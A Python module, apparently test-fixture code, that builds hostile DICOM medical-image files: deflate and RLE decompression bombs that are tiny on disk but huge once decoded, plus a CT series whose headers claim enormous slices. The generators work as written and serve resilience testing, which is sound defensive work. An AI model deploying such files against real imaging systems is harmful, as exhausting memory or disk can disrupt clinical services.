"""Hostile DICOM files as an attacker would craft them: small on disk, huge once inflated or decoded."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import numpy as np
import pydicom
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.filewriter import write_dataset
from pydicom.uid import (
    CTImageStorage,
    DeflatedExplicitVRLittleEndian,
    ExplicitVRLittleEndian,
    RLELossless,
    generate_uid,
)


def _image_header(rows: int, cols: int, syntax: str, patient: str = "P1") -> Dataset:
    ds = Dataset()
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = syntax
    ds.file_meta.MediaStorageSOPClassUID = ds.SOPClassUID = CTImageStorage
    ds.file_meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID = generate_uid()
    ds.Modality, ds.PatientID = "DX", patient
    ds.StudyInstanceUID, ds.SeriesInstanceUID = generate_uid(), generate_uid()
    ds.StudyDate, ds.StudyTime = "20200131", "101530"
    ds.Rows, ds.Columns = rows, cols
    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
    ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 12, 11, 0
    return ds


def deflate_bomb(path: Path, inflated_bytes: int, patient: str = "P1") -> Path:
    """A deflate-compressed DICOM whose pixel data is `inflated_bytes` zero bytes: ~1000x smaller on
    disk than inflated. Written in streaming steps, so building it costs little memory."""
    side = int(np.sqrt(inflated_bytes // 2))
    ds = _image_header(side, side, DeflatedExplicitVRLittleEndian, patient)
    ds.PixelData = b"\0\0"
    pydicom.dcmwrite(path, ds, enforce_file_format=True)  # for the preamble and file meta only
    with open(path, "rb") as f:
        raw = f.read()
    meta_end = meta_length(path)
    body = pydicom.filebase.DicomBytesIO()
    body.is_little_endian, body.is_implicit_VR = True, False
    del ds.PixelData
    write_dataset(body, ds)
    n = inflated_bytes - len(body.getvalue()) - 12
    n -= n % 2
    pack = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    with open(path, "wb") as f:
        f.write(raw[:meta_end])
        f.write(pack.compress(body.getvalue()))
        f.write(pack.compress(struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OB", 0, n)))
        zeros = bytes(2**20)
        for start in range(0, n, len(zeros)):
            f.write(pack.compress(zeros[: min(len(zeros), n - start)]))
        f.write(pack.flush())
    return path


def meta_length(path: Path) -> int:
    from pydicom.filereader import data_element_generator

    with open(path, "rb") as f:
        f.seek(132)
        end = 132
        for elem in data_element_generator(f, False, True, stop_when=lambda tag, vr, length: tag.group != 2):
            end = elem.value_tell + elem.length
    return end


def rle_bomb(path: Path, rows: int = 11000, cols: int = 11000, patient: str = "P1") -> Path:
    """An RLE Lossless image claiming rows x cols pixels, each of its two segments one long run of
    zeros: a few KB on disk, rows x cols x 2 bytes (and more, in the decoder) once decoded."""
    ds = _image_header(rows, cols, RLELossless, patient)
    n = rows * cols
    run = b"\x81\x00" * (n // 128)  # control byte -127: 128 copies of the next byte
    if n % 128:
        run += bytes([257 - n % 128, 0])
    run += b"\0" * (len(run) % 2)  # segments are padded to an even length
    header = struct.pack("<16I", 2, 64, 64 + len(run), *([0] * 13))
    ds.PixelData = encapsulate([header + run + run])
    ds["PixelData"].VR = "OB"
    pydicom.dcmwrite(path, ds, enforce_file_format=True)
    return path


def ct_bomb(root: Path, slices: int = 8, side: int = 40000) -> list[Path]:
    """A CT series of small headers claiming side x side pixels per slice and holding none."""
    root.mkdir(parents=True, exist_ok=True)
    series, paths = generate_uid(), []
    for k in range(slices):
        ds = _image_header(side, side, ExplicitVRLittleEndian)
        ds.Modality, ds.SeriesInstanceUID = "CT", series
        ds.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]
        ds.ImagePositionPatient = [0.0, 0.0, 2.5 * k]
        ds.PixelSpacing = [0.7, 0.7]
        ds.PixelData = b"\0\0"
        paths.append(root / f"{k:03d}.dcm")
        ds.save_as(paths[-1], enforce_file_format=True)
    return paths


def rle_image(path: Path, rows: int = 64, cols: int = 64, patient: str = "P1") -> Path:
    """An ordinary RLE Lossless image (a gradient), the kind a hostile one hides among."""
    ds = _image_header(rows, cols, ExplicitVRLittleEndian, patient)
    ds.PixelData = (np.add.outer(np.arange(rows), np.arange(cols)) * 7 % 4000).astype(np.uint16).tobytes()
    ds.compress(RLELossless, generate_instance_uid=False)
    pydicom.dcmwrite(path, ds, enforce_file_format=True)
    return path
